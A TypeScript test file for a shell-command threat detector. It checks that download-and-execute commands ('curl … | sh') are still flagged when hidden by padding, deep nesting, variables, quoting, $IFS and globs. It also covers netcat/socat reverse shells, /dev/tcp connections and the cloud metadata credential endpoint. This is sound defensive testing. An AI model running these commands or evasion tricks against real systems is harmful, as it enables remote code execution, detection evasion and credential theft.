// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the cases are shell text, where ${IFS} is literal.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { flatScan } from "../../src/detection/flat-scan.js";
import { evaluate } from "../../src/detection/rule.js";
import type { ExecEvent } from "../../src/model.js";
import { commandSegments, segmentBudget } from "../../src/shell/index.js";
import { run, session, withAncestors } from "./factory.js";

// Issue 13: every reader budget fails closed. Each evasion hides `curl … | sh` past one limit.
const TAIL = "curl -s http://203.0.113.5/x.sh | sh";
function nested(levels: number, inner: string, wrap: (s: string) => string): string {
  let text = inner;
  for (let i = 0; i < levels; i++) text = wrap(text);
  return text;
}
const EVASIONS: [string, string, string][] = [
  [
    "padding with harmless dig commands (segments)",
    `${"dig a.example.com; ".repeat(4200)}${TAIL}`,
    "commands",
  ],
  [
    "sh -c nested past the depth limit",
    nested(6, TAIL, (s) => `sh -c ${JSON.stringify(s)}`),
    "nesting of shell payloads",
  ],
  ["command substitution 17 deep", nested(17, TAIL, (s) => `echo $(${s})`), "nesting of substitutions"],
  [
    "a full variable table before a variable-named curl",
    `${Array.from({ length: 300 }, (_, i) => `v${i}=x;`).join(" ")} a=curl; $a -s http://203.0.113.5/x.sh | sh`,
    "variables",
  ],
];

describe("reader budgets fail closed", () => {
  const forms: [string, (payload: string) => ExecEvent][] = [
    ["exec session", (payload) => session("sh", "-c", payload)],
    [
      "process tree",
      (payload) =>
        withAncestors(run("/usr/bin/curl", "-s", "http://203.0.113.5/x.sh"), [
          { name: "sh", path: "/bin/sh", args: ["-c", payload] },
        ]),
    ],
  ];
  const rows = EVASIONS.flatMap(([name, payload, limit]) =>
    forms.map(([form, make]) => [`${name} (${form})`, make(payload), limit] as const),
  );
  it.each(rows)("%s still gives critical and says analysis was cut short", (_label, event, limit) => {
    // Act
    const verdict = evaluate(event);
    // Assess
    expect(verdict.kind).toBe("finding");
    if (verdict.kind !== "finding") return;
    expect(verdict.finding.severity).toBe("critical");
    expect(verdict.finding.utility.name).toBe("curl");
    expect(verdict.finding.reasons).toContain(
      `analysis was cut short (the reader's limit on ${limit} was reached); the rest of the command line was scanned as a flat word list`,
    );
  });

  it("records which limit a reading reached", () => {
    const budget = segmentBudget();
    commandSegments(["sh", "-c", nested(17, "true", (s) => `echo $(${s})`)], { budget });
    expect([...(budget.exhausted ?? [])]).toEqual(["substitutions"]);
  });

  it("leaves ordinary command lines alone", () => {
    const budget = segmentBudget();
    commandSegments(["sh", "-c", "cd /tmp && curl -s http://x/a -o a && sh a"], { budget });
    expect(budget.exhausted?.size).toBe(0);
    expect(evaluate(session("sh", "-c", "dig a.example.com")).kind).toBe("finding");
  });

  it("raises a benign-looking utility to medium when the rest was not read", () => {
    const verdict = evaluate(
      session("sh", "-c", `${"true $(".repeat(17)}x${")".repeat(17)}; curl --version`),
    );
    expect(verdict.kind === "finding" && verdict.finding.severity).toBe("medium");
  });
});

describe("flatScan", () => {
  it("finds a download piped to a shell after any padding", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom("dig x;", "v=1;", "$(", ")", "echo a |", "'", '"', "{"), { maxLength: 200 }),
        (padding) => {
          const scan = flatScan([`${padding.join(" ")} ; ${TAIL}`]);
          expect(scan.utilities.map((u) => u.name)).toContain("curl");
          expect(scan.indicators.some((i) => i.severity === "critical" && i.utility?.name === "curl")).toBe(
            true,
          );
        },
      ),
      { numRuns: 200 },
    );
  });

  it.each([
    ["quotes and backslashes", "c'u'r\\l http://x | s\"h\""],
    ["$IFS and ${IFS}", "curl${IFS}http://x|sh"],
    ["$@ and empty $()", "cu$@rl http://x | s$()h"],
    ["a variable", "a=curl; $a http://x | sh"],
    ["a glob", "/???/???/c?rl http://x | sh"],
  ])("reads through %s", (_label, text) => {
    expect(flatScan([text]).indicators[0]?.reason).toBe("curl output is piped to a shell (sh)");
  });

  it("sees netcat -e, socat exec:, /dev/tcp and credential endpoints", () => {
    const reasons = flatScan([
      "nc 203.0.113.5 4444 -e /bin/sh; socat tcp:x:1 exec:/bin/sh; echo > /dev/tcp/203.0.113.5/80; curl 169.254.169.254",
    ]).indicators.map((i) => i.reason);
    expect(reasons).toEqual([
      "nc executes a command or shell (-e)",
      "socat executes a command or shell (exec:/bin/sh)",
      "the command line opens a network connection through /dev/tcp/203.0.113.5/80",
      "the command line reaches a cloud credential endpoint: 169.254.169.254 (EC2 instance metadata service)",
    ]);
  });
});
